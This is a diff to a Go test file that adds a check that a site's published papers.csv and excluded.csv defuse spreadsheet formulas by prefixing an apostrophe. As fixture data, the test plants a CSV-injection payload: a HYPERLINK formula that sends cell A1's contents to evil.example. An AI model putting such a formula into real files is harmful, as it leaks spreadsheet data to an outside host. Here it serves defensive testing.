@@ -1,6 +1,7 @@
 package site
 
 import (
+	"encoding/csv"
 	"html"
 	"os"
 	"path/filepath"
@@ -9,6 +10,7 @@ import (
 	"testing"
 
 	"github.com/masrl/masrl/corpus"
+	"github.com/masrl/masrl/data"
 )
 
 // hostileRows are papers.csv rows whose every free-text field holds what
@@ -95,6 +97,55 @@ func TestHostileRows(t *testing.T) {
 	} {
 		if !strings.Contains(page, want) {
 			t.Errorf("the entry page lacks %s", want)
+		}
+	}
+}
+
+// TestDownloadsDefuseFormulas requires the published papers.csv and
+// excluded.csv to hold no cell a spreadsheet would run as a formula: the
+// corpus's own cells that start with =, +, -, @ (warnings of the check)
+// get the apostrophe the papers page's client-side export gives them, and
+// nothing else of the files changes.
+func TestDownloadsDefuseFormulas(t *testing.T) {
+	dir := corpusFromTxtar(t, "tiny.txtar")
+	hyperlink := `"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`
+	for name, edit := range map[string][2]string{
+		"papers.csv":   {"Gamma Benchmark for Teams", "@Gamma Benchmark for Teams"},
+		"excluded.csv": {"Some Debate Paper", hyperlink},
+	} {
+		p := filepath.Join(dir, name)
+		b, err := os.ReadFile(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(strings.Replace(string(b), edit[0], edit[1], 1)), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	files := mustLoad(t, openCorpus(t, dir, data.Dir(filepath.Join(dir, "data"))), Options{})
+	for _, name := range []string{"papers.csv", "excluded.csv"} {
+		src, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		published := page(t, files, name)
+		recs, err := csv.NewReader(strings.NewReader(published)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		defused := 0
+		for _, rec := range recs {
+			for _, cell := range rec {
+				if corpus.FormulaLeading(cell) {
+					t.Errorf("%s: cell %q is published as a formula", name, cell)
+				}
+				if strings.HasPrefix(cell, "'") {
+					defused++
+				}
+			}
+		}
+		if defused == 0 || len(published) != len(src)+defused {
+			t.Errorf("%s: %d cells defused, %d bytes published from %d: want only apostrophes added", name, defused, len(published), len(src))
 		}
 	}
 }
